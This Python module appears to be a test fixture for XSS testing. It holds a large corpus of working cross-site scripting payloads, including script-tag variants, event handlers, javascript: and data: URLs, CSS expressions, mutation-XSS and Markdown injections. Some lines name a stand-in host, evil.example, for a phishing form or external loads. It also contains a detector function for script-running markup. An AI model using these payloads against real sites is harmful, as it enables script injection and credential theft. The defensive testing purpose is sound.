"""Hostile markup for the XSS tests: hundreds of payloads that would run script, or load or
submit something, if they reached a reader's browser as HTML.

Every payload that can run script runs ``window.__xss=1`` (some call ``alert(1)``), so a browser
test can tell whether any ran. Built from small lists (sinks × schemes, tags × events) so the
families stay readable; ``PAYLOADS`` is the whole corpus, without duplicates.
"""

import re
from itertools import product

from bs4 import BeautifulSoup

JS = "window.__xss=1"
# The same script in base64 ("window.__xss=1"), for data: URLs and atob().
JS_BASE64 = "d2luZG93Ll9feHNzPTE="
SCRIPT_BASE64 = "PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=="  # <script>window.__xss=1</script>


def _fill(templates) -> list[str]:
    return [template.replace("{js}", JS) for template in templates]


# -- <script> in many spellings and encodings --------------------------------------------------

SCRIPT_TAGS = _fill(
    [
        "<script>{js}</script>",
        "<SCRIPT>{js}</SCRIPT>",
        "<ScRiPt>{js}</sCrIpT>",
        "<script >{js}</script >",
        "<script/x>{js}</script>",
        "<script\t>{js}</script>",
        "<script\n>{js}</script>",
        "<script\x0c>{js}</script>",
        "<script type=text/javascript>{js}</script>",
        "<script type=module>{js}</script>",
        "<script language=javascript>{js}</script>",
        "<script src=data:,{js}></script>",
        '<script src="data:text/javascript,{js}"></script>',
        f"<script src=data:text/javascript;base64,{JS_BASE64}></script>",
        "<script src=//evil.example/x.js></script>",
        "<script>/*</script>*/{js}</script>",
        "<scr<script>ipt>{js}</scr</script>ipt>",
        "<<script>script>{js}<</script>/script>",
        "<script>{js}",
        "<script>{js}<!--",
        "<script",
        "<script>{js}</script",
        "</title><script>{js}</script>",
        "</textarea><script>{js}</script>",
        "</style><script>{js}</script>",
        "</noscript><script>{js}</script>",
        "</script><script>{js}</script>",
        "</p></div><script>{js}</script>",
        '"><script>{js}</script>',
        "'><script>{js}</script>",
        "--><script>{js}</script>",
        "]]><script>{js}</script>",
        '";{js};//',
        "';{js};//",
        "</script><svg onload={js}>",
        "<svg><script>{js}</script></svg>",
        "<svg><script href=data:,{js} /></svg>",
        "<svg><script xlink:href=data:,{js}></script></svg>",
        "<math><script>{js}</script></math>",
        "<template><script>{js}</script></template>",
        "<svg><foreignObject><script>{js}</script></foreignObject></svg>",
        "&lt;script&gt;{js}&lt;/script&gt;",
        "&#60;script&#62;{js}&#60;/script&#62;",
        "&#x3C;script&#x3E;{js}&#x3C;/script&#x3E;",
        "&#x3c;script&#x3e;{js}&#x3c;/script&#x3e;",
        "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
        "%3Cscript%3E{js}%3C/script%3E",
        "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
        "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
        "+ADw-script+AD4-{js}+ADw-/script+AD4-",
        "＜script＞{js}＜/script＞",
        "<scr\x00ipt>{js}</script>",
        "<script\x00>{js}</script>",
        "<scri\u200bpt>{js}</script>",
        "<script\u2028>{js}</script>",
        "{{ 7*7 }}<script>{js}</script>{% debug %}",
    ]
)

# -- event handlers ------------------------------------------------------------------------------

ELEMENTS_WITH_EVENTS = [
    ("img src=x", "onerror"),
    ("img src=/media/x.png", "onload"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("frameset", "onload"),
    ("iframe", "onload"),
    ("input autofocus", "onfocus"),
    ("input type=image src=x", "onerror"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("marquee", "onstart"),
    ("div", "onmouseover"),
    ("div tabindex=1 autofocus", "onfocus"),
    ("a href=/", "onclick"),
    ("p", "onpointerenter"),
    ("object data=x", "onerror"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("embed src=x", "onload"),
    ("b style=animation-name:spin", "onanimationstart"),
    ("form", "onsubmit"),
    ("table background=x", "onerror"),
    ("h1", "onclick"),
    ("code", "onmouseover"),
    ("td", "onclick"),
    ("li tabindex=1 autofocus", "onfocusin"),
    ("xss", "onafterscriptexecute"),
    ("dialog open", "onclose"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x to=1", "onbegin"),
    ("math", "onclick"),
    ("blockquote", "onmouseenter"),
]
HANDLER_QUOTING = ["{event}={js}", '{event}="{js}"', "{event}='{js}'"]

EVENT_HANDLERS = [
    f"<{element} {quoting.format(event=event, js=JS)}>"
    for (element, event), quoting in product(ELEMENTS_WITH_EVENTS, HANDLER_QUOTING)
] + _fill(
    [
        "<img/src=x/onerror={js}>",
        "<img src=x onerror\n={js}>",
        '<img src=x onerror =  "{js}">',
        "<img src=x ONERROR={js}>",
        "<img src=x OnErRoR={js}>",
        "<img src=x on\x00error={js}>",
        "<img src=x onerror=&#119;indow.__xss=1>",
        '<img src=x onerror="&#x77;&#x69;ndow.__xss=1">',
        "<img src=`x`onerror={js}>",
        '<img """><script>{js}</script>">',
        "<img src=x:x onerror={js}//",
        f"<img src=x onerror=eval(atob('{JS_BASE64}'))>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg onload=alert`1`>",
        "<svg\x0conload={js}>",
        "<svg\nonload={js}>",
        "<body/onload={js}>",
        '<a href="https://ok.example/" onclick="{js}">ok</a>',
        '<a href="/rumours/" onmouseover="{js}" style="display:block;height:999px">x</a>',
        "<code onmouseover={js}>x</code>",
        '<code class="language-x onmouseover={js}">x</code>',
        '<p title="x" onclick="{js}">x</p>',
        "<x onclick={js}>click</x>",
        "<custom-element onconnected={js}></custom-element>",
    ]
)

# -- script URLs in every attribute that takes a URL ---------------------------------------------

SCRIPT_URLS = _fill(
    [
        "javascript:{js}",
        "JaVaScRiPt:{js}",
        "JAVASCRIPT:{js}",
        " javascript:{js}",
        "\tjavascript:{js}",
        "java\tscript:{js}",
        "java\nscript:{js}",
        "java\rscript:{js}",
        "java&#9;script:{js}",
        "java&#x09;script:{js}",
        "java&#10;script:{js}",
        "java&#x0A;script:{js}",
        "java&#13;script:{js}",
        "jav&#x09;ascript:{js}",
        "&#106;avascript:{js}",
        "&#x6A;avascript:{js}",
        "&#0000106;avascript:{js}",
        "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{js}",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{js}",
        "javascript&colon;{js}",
        "javascript&#58;{js}",
        "javascript&#x3A;{js}",
        "&#x01;javascript:{js}",
        "\x01javascript:{js}",
        "javas\x00cript:{js}",
        "javascript://%0a{js}",
        "javascript:/*-->*/{js}",
        "javascript:alert(1)",
        "data:text/html,<script>{js}</script>",
        f"data:text/html;base64,{SCRIPT_BASE64}",
        "DATA:text/html,<script>{js}</script>",
        " data:text/html,<script>{js}</script>",
        "data:image/svg+xml,<svg onload={js}>",
        "data:application/javascript,{js}",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "livescript:{js}",
        "%6Aavascript:{js}",
    ]
)
URL_SINKS = [
    '<a href="{url}">x</a>',
    "<a href='{url}'>x</a>",
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>x</button></form>',
    '<button formaction="{url}">x</button>',
    '<input type=submit formaction="{url}">',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<svg><a xlink:href="{url}"><text x=20 y=20>x</text></a></svg>',
    '<svg><a href="{url}"><text x=20 y=20>x</text></a></svg>',
    '<math href="{url}">x</math>',
    '<base href="{url}">',
    '<img src="{url}">',
    '<frame src="{url}">',
    '<area href="{url}">',
    '<link rel=stylesheet href="{url}">',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<video poster="{url}"></video>',
    '<svg><animate attributeName=href values="{url}"/><a><text>x</text></a></svg>',
    '<isindex action="{url}" type=submit>',
    "[x]({url})",
    "![x]({url})",
    "[x][r]\n\n[r]: {url}",
    "<{url}>",
]
# Each sink with a handful of schemes, and every scheme in the commonest sinks.
SINK_SCHEMES = _fill(
    [
        "javascript:{js}",
        "&#106;avascript:{js}",
        "data:text/html,<script>{js}</script>",
        "vbscript:msgbox(1)",
    ]
)
COMMON_SINKS = ['<a href="{url}">x</a>', "[x]({url})", '<iframe src="{url}"></iframe>']
URL_ATTRIBUTES = [
    sink.replace("{url}", url)
    for sink, url in [*product(URL_SINKS, SINK_SCHEMES), *product(COMMON_SINKS, SCRIPT_URLS)]
]

# -- CSS ------------------------------------------------------------------------------------------

CSS = _fill(
    [
        '<div style="background:url(javascript:{js})">x</div>',
        '<div style="background-image:url(&#1;javascript:{js})">x</div>',
        '<div style="width:expression({js})">x</div>',
        '<div style="x:expr/**/ession({js})">x</div>',
        '<div style="x:\\65xpression({js})">x</div>',
        '<p style="behavior:url(x.htc)">x</p>',
        '<div style="-moz-binding:url(//evil.example/x.xml#xss)">x</div>',
        '<p style="position:fixed;inset:0;z-index:99;background:red">overlay</p>',
        '<style>@import "javascript:{js}";</style>',
        "<style>@import 'https://evil.example/x.css';</style>",
        '<style>body{background:url("javascript:{js}")}</style>',
        "<style>*{x:expression({js})}</style>",
        "<style>body{display:none}</style>",
        '<style>li{list-style-image:url("javascript:{js}")}</style>',
        "<style>@import url(data:text/css,*{x:expression({js})});</style>",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<table background="javascript:{js}"><tr>'
        '<td style="width:expression({js})">x</td></tr></table>',
        '<span style="position:fixed;inset:0" onmouseover="{js}">x</span>',
        "<svg><style>@import 'javascript:{js}';</style></svg>",
    ]
)

# -- comments, CDATA, declarations ---------------------------------------------------------------

COMMENTS = _fill(
    [
        "<!--><script>{js}</script>-->",
        "<!---><script>{js}</script>-->",
        "<!-- --!><script>{js}</script>-->",
        "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
        "<!--<img src=x onerror={js}>-->",
        "<!-- <script>{js}</script>",
        "<!- -><img src=x onerror={js}>",
        "<![CDATA[><script>{js}</script>]]>",
        "<![CDATA[<script>{js}</script>]]>",
        "<?xml ><script>{js}</script>?>",
        '<? foo="><script>{js}</script>">',
        '<! foo="><script>{js}</script>">',
        '</ foo="><script>{js}</script>">',
        "<!DOCTYPE x><script>{js}</script>",
        '<svg><![CDATA[><image xlink:href="]]><img src=x onerror={js}>"></svg>',
        "<math><!--</math><img src=x onerror={js}>-->",
        "<svg><!--</svg><img src=x onerror={js}>-->",
    ]
)

# -- mutation XSS: markup that changes meaning when parsed, serialised and parsed again -----------

MUTATION = _fill(
    [
        '<noscript><p title="</noscript><img src=x onerror={js}>">',
        '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
        "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
        "<svg><style><img src=x onerror={js}></style></svg>",
        "<math><style><img src=x onerror={js}></style></math>",
        '<xmp><p title="</xmp><img src=x onerror={js}>">',
        '<iframe><p title="</iframe><img src=x onerror={js}>">',
        '<noembed><p title="</noembed><img src=x onerror={js}>">',
        '<noframes><p title="</noframes><img src=x onerror={js}>">',
        '<textarea><p title="</textarea><img src=x onerror={js}>">',
        '<title><p title="</title><img src=x onerror={js}>">',
        '<style><p title="</style><img src=x onerror={js}>">',
        "<plaintext><img src=x onerror={js}>",
        "<listing>&lt;img src=x onerror={js}&gt;</listing>",
        '<svg><p><style><g title="</style><img src=x onerror={js}>">',
        "<math><mi><mglyph><svg><mtext><style><img src=x onerror={js}>",
        "<table><td><svg><foreignObject><p>x</p><style><img src=x onerror={js}></style>",
        "<svg><a><animate attributeName=href values=javascript:{js} />"
        "<text x=20 y=20>x</text></a></svg>",
        '<img src="x` `<script>{js}</script>"` `>',
        '<a title="`"><img src=x onerror={js}>">',
        "<table><tr><td><style></td><img src=x onerror={js}>",
        "<select><style></select><img src=x onerror={js}></style>",
        "<svg><desc><style><img src=x onerror={js}></style></desc></svg>",
        "<math><annotation-xml encoding=text/html><style><img src=x onerror={js}>",
        "<div><svg><foreignobject><p><img src=x onerror={js}></foreignobject></svg></div>",
        '<a href="https://ok.example/"><b></a><img src=x onerror={js}></b>',
        "<p><table></p><img src=x onerror={js}></table>",
        "<b><i><u><s><img src=x onerror={js}></b>",
    ]
)

# -- unclosed and broken tags -------------------------------------------------------------------

UNCLOSED = _fill(
    [
        "<img src=x onerror={js}",
        '<img src=x onerror="{js}',
        "<svg onload={js}//",
        '<a href="javascript:{js}">x',
        "<iframe src=javascript:{js}",
        "<div><script>{js}",
        "<<img src=x onerror={js}>",
        "<img src=x onerror={js}<b>",
        "<img src=x onerror={js} <!--",
        "<b onmouseover={js}>x",
        "<textarea>",
        "<title>",
        "<style>",
        "<xmp>",
        "<noscript>",
        "<!--",
        "<![CDATA[",
        '<a href="',
        "<a href='",
        '<img src="x" alt=\'',
        "</div></main></body></html><script>{js}</script>",
        "<table><tr><td>",
        "<ul><li><ol><li>",
        "<select><option>",
    ]
)

# -- other elements that load, submit or take over ------------------------------------------------

ELEMENTS = _fill(
    [
        '<iframe srcdoc="<script>{js}</script>"></iframe>',
        '<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>',
        '<iframe src="https://evil.example/"></iframe>',
        '<object type="text/html" data="data:text/html,<script>{js}</script>"></object>',
        '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload={js}>">',
        '<meta http-equiv="refresh" content="0;javascript:{js}">',
        '<meta charset="UTF-7">',
        '<meta http-equiv="Content-Security-Policy" content="script-src *">',
        '<base href="//evil.example/">',
        '<base target="_blank">',
        '<form action="https://evil.example/"><input name=password><button>登录</button></form>',
        "<input type=hidden name=csrfmiddlewaretoken value=x>",
        "<applet code=x>",
        "<portal src=https://evil.example/>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='x' onerror='{js}'/></svg>#x\"/></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
        '<img src="/media/ok.png" srcset="javascript:{js} 1x">',
        '<img src="//evil.example/pixel.png">',
        '<img src="https://evil.example/track.png">',
        '<img src="/media/../admin/x.png">',
        '<a href="https://ok.example/" target="_blank">ok</a>',
        '<a href="https://ok.example/" ping="https://evil.example/">ok</a>',
        '<div id="main">duplicate id</div>',
        '<a id="csrfmiddlewaretoken" name="csrfmiddlewaretoken">x</a>',
        "<h1 onclick={js}>title</h1>",
        "<blink>x</blink><marquee>x</marquee>",
    ]
)

# -- direction overrides and look-alikes -----------------------------------------------------------

UNICODE = _fill(
    [
        "\u202e<script>{js}</script>",
        "\u202egpj.exe",
        "\u202e>tpircs/<{js}>tpircs<",
        "\u2066<img src=x onerror={js}>\u2069",
        "<scr\u200dipt>{js}</script>",
        "<img src=x onerror\u3000={js}>",
        "＜img src=x onerror={js}＞",
        "<img src=x onerror=\u2028{js}>",
        "\ufeff<script>{js}</script>",
        "\ud7ff<script>{js}</script>",
    ]
)

# -- Markdown ---------------------------------------------------------------------------------

MARKDOWN = _fill(
    [
        "[x](javascript:{js})",
        "[x]( javascript:{js} )",
        "[x](<javascript:{js}>)",
        "[x](javascript&#58;{js})",
        "[x](&#106;avascript:{js})",
        '![x" onerror="{js}](x)',
        '![x](x" onerror="{js})',
        '[x](https://ok.example/ "t" onclick="{js}")',
        '[x](https://ok.example/ "t\\" onclick=\\"{js}")',
        "[x][1]\n\n[1]: javascript:{js}",
        "[x][1]\n\n[1]: <javascript:{js}>",
        "<javascript:{js}>",
        "<data:text/html,<script>{js}</script>>",
        "```\n</code><script>{js}</script>\n```",
        "```html\n<script>{js}</script>\n```",
        "```<script>{js}</script>\nx\n```",
        "`<script>{js}</script>`",
        "    <script>{js}</script>",
        "> <script>{js}</script>",
        "> <iframe src=//evil.example></iframe>",
        "* <img src=x onerror={js}>",
        "* <a href='javascript:{js}'>x</a>",
        "| a |\n|---|\n| <script>{js}</script> |",
        "| a |\n| - |\n| <img src=x onerror={js}> |",
        "# <img src=x onerror={js}>",
        "[<img src=x onerror={js}>](https://ok.example/)",
        "**<script>{js}</script>**",
        '<div markdown="1"><script>{js}</script></div>',
        "\\<script>{js}\\</script>",
        "<div>\n\n<script>{js}</script>\n\n</div>",
        "<p>\n<img src=x onerror={js}>\n</p>",
        "[![x](javascript:{js})](javascript:{js})",
        '<https://ok.example/" onclick="{js}>',
        "[x](https://ok.example/)<!--\n<script>{js}</script>\n-->",
        "*<b onmouseover={js}>x</b>*",
        "~~~\n<script>{js}</script>\n~~~",
    ]
)

PAYLOADS = list(
    dict.fromkeys(
        SCRIPT_TAGS
        + EVENT_HANDLERS
        + URL_ATTRIBUTES
        + CSS
        + COMMENTS
        + MUTATION
        + UNCLOSED
        + ELEMENTS
        + UNICODE
        + MARKDOWN
    )
)
# A web address field's payloads: what a script URL looks like on its own.
URL_PAYLOADS = list(dict.fromkeys([*SCRIPT_URLS, *(url.strip() for url in SCRIPT_URLS)]))


# -- the check -------------------------------------------------------------------------------------

# Attributes a browser follows as a URL (or, for SVG animation, may turn into one).
URL_ATTRIBUTE_NAMES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "srcset",
        "ping",
        "cite",
        "longdesc",
        "lowsrc",
        "dynsrc",
        "codebase",
        "manifest",
        "icon",
        "values",
        "from",
        "to",
        "by",
    }
)
SCRIPT_SCHEMES = ("javascript:", "data:", "vbscript:", "livescript:")
# Elements that load another document or change how the page's URLs resolve.
FORBIDDEN_ELEMENTS = frozenset({"iframe", "frame", "frameset", "object", "embed", "applet", "base"})
_IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20]")  # browsers skip these inside a URL's scheme


def runs_script(url: str) -> bool:
    """True for a URL a browser would run or render as a document (entities already decoded)."""
    return _IGNORED_IN_SCHEME.sub("", url or "").lower().startswith(SCRIPT_SCHEMES)


def script_problems(html: str, static_url: str) -> list[str]:
    """Everything in a page, parsed as a browser parses it (html5lib), through which a script
    could run: a <script> that is not our JSON-LD or one of our static files, an on* handler,
    a script URL, srcdoc, CSS expressions, frames and objects, <base>, meta refresh."""
    problems = []
    for element in BeautifulSoup(html, "html5lib").find_all(True):
        name = element.name.lower()
        attributes = {str(key).lower(): value for key, value in element.attrs.items()}
        if name == "script" and not (
            (attributes.get("type") == "application/ld+json" and "src" not in attributes)
            or (str(attributes.get("src", "")).startswith(static_url) and not element.string)
        ):
            problems.append(f"script: {str(element)[:120]}")
        if name in FORBIDDEN_ELEMENTS:
            problems.append(f"<{name}>: {str(element)[:120]}")
        if name == "meta" and "http-equiv" in attributes:
            problems.append(f"meta http-equiv: {str(element)[:120]}")
        for attribute, value in attributes.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.startswith("on"):
                problems.append(f"{attribute} on <{name}>: {value[:80]}")
            elif attribute == "srcdoc":
                problems.append(f"srcdoc on <{name}>")
            elif attribute in URL_ATTRIBUTE_NAMES and runs_script(value):
                problems.append(f"{attribute}={value[:80]!r} on <{name}>")
            elif attribute == "style" and re.search(r"expression|javascript:|url\(", value, re.I):
                problems.append(f"style={value[:80]!r} on <{name}>")
    return problems
